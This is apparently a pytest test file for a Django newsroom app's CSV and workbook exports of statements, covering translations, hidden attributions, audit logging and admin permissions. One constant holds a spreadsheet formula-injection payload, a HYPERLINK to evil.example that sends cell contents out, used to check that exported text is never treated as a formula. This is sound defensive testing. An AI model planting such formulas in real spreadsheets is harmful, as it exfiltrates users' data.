import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from events.attribution import Rule
from events.models import Statement
from events.summaries import register
from newsroom.models import LogEntry
from tests.adminforms import sign_in
from tests.factories import (
    CheckFactory,
    EventFactory,
    ParticipationFactory,
    StatementFactory,
    WordingFactory,
)

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows(response) -> list[dict[str, str]]:
    """The rows of a CSV, by the names of their columns."""
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def act(client, name: str, statements):
    """What the list of the admin answers to an action on statements."""
    data = {"action": name, "_selected_action": [statement.pk for statement in statements]}
    return client.post(reverse("admin:events_statement_changelist"), data)


def test_the_list_comes_as_csv_in_its_order_with_the_event_of_each(client):
    river = StatementFactory(
        participation__event=EventFactory(title="The river"),
        participation__printed_name="Ada Bondar",
        words="It is low.",
    )
    CheckFactory(wording=river.wording)
    answer = StatementFactory(words="It is not.", reply_to=river, forecast_due_on="2030-01-01")
    StatementFactory(draft=True, words="A draft.")

    response = client.get("/statements.csv")

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["Content-Disposition"] == 'attachment; filename="statements.en.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    columns = ["Number", "Id", "Words", "Reply to", "Forecast, due on", "Timecode"]
    assert [[row[name] for name in columns] for row in rows(response)] == [
        ["1", answer.public_id, "It is not.", river.public_id, "2030-01-01", ""],
        ["2", river.public_id, "It is low.", "", "", "1:00"],
    ]
    assert [row["Event"] for row in rows(response)][1:] == ["The river"]
    assert [row["Name"] for row in rows(response)][1:] == ["Ada Bondar"]


def test_a_table_holds_what_the_list_is_narrowed_to(client):
    StatementFactory(words="The river.")
    StatementFactory(words="The lake.")

    assert [row["Words"] for row in rows(client.get("/statements.csv?words=lake"))] == ["The lake."]


def test_a_question_that_cannot_be_understood_gives_no_empty_table(client):
    response = client.get("/statements.csv?since=2026-05-02&until=2026-05-01")

    assert response.status_code == 400
    assert "The period ends before it begins: swap the two days." in response.content.decode()


def test_the_table_is_in_the_language_of_its_address(client):
    statement = StatementFactory(words="The river.")
    WordingFactory(statement=statement, language="uk", text="Річка.")

    content = client.get("/uk/statements.csv").content.decode()

    assert "Річка." in content


def test_the_list_comes_as_a_workbook_in_which_no_text_is_a_formula(client):
    StatementFactory(words=FORMULA, participation__printed_name="+1")

    response = client.get("/statements.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    names, cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    row = dict(zip(names, sheet[2], strict=True))
    assert (row["Words"].value, row["Words"].data_type) == (FORMULA, "s")
    assert (row["Name"].value, row["Name"].data_type) == ("+1", "s")
    assert len(cells) == 25


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_table_names_nobody_whom_a_rule_hides(client, form):
    for rule in (Rule.POST_ONLY, Rule.NOT_FOR_ATTRIBUTION):
        StatementFactory(
            participation__event__rule=rule,
            participation__printed_name="Qzxname",
            participation__person__slug=f"qzx-{rule.value}",
            kind=Statement.Kind.INDIRECT,
            words="Open words.",
        )

    content = client.get(f"/statements.{form}").content
    text = content.decode("utf-8-sig") if form == "csv" else str(cells(content))

    assert text.count("Open words.") == 2
    assert "qzx" not in text.lower()


def cells(content: bytes) -> list:
    """All that a workbook holds."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_too_long_a_list_is_refused_with_what_to_do(client, monkeypatch):
    monkeypatch.setattr(register, "MOST", 1)
    StatementFactory()
    StatementFactory()

    response = client.get("/statements.csv")

    assert response.status_code == 400
    assert "More than 1 statements fit. Narrow the list" in response.content.decode()


@pytest.mark.parametrize("path", ["/statements.pdf", "/statements.", "/statements.csv/"])
def test_there_is_no_other_table(client, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("number", [1, 3])
def test_a_table_costs(client, number, django_assert_num_queries):
    for _n in range(number):
        StatementFactory()

    client.get("/statements.csv?first")
    # statements, joined records, wordings, checks, printed capacities, event texts, topics;
    # the recordings of the events, and who took part in them
    with django_assert_num_queries(9):
        client.get("/statements.csv")


@pytest.mark.parametrize("group", ["staff", "editor"])
def test_chosen_statements_are_taken_out_of_the_admin_and_logged(client, group):
    sign_in(client, group)
    named = StatementFactory(words="Named.")
    ruled = StatementFactory(
        words="By post.", participation=ParticipationFactory(event=named.event, rule=Rule.POST_ONLY)
    )
    draft = StatementFactory(draft=True, words="A draft.")

    response = act(client, "export_csv", [named, ruled, draft])

    assert {row["Words"] for row in rows(response)} == {"Named.", "By post."}
    [entry] = LogEntry.objects.filter(action=LogEntry.Action.EXPORTED)
    assert entry.record == named.event
    assert entry.detail == {
        "format": "csv",
        "profile": "statements",
        "language": "en",
        "people": [named.participation.person_id],
        "participations": sorted([named.participation_id, ruled.participation_id]),
        "statements": sorted([named.public_id, ruled.public_id]),
    }


def test_nothing_is_taken_out_where_nothing_is_public(client):
    sign_in(client, "staff")

    response = act(client, "export_xlsx", [StatementFactory(draft=True)])

    page = client.get(response.url).content.decode()
    assert "None of the chosen statements is public" in page
    assert LogEntry.objects.filter(action=LogEntry.Action.EXPORTED).count() == 0


def test_a_reporter_takes_no_lists_out(client):
    sign_in(client, "reporter")

    page = client.get(reverse("admin:events_statement_changelist")).content.decode()

    assert "export_csv" not in page
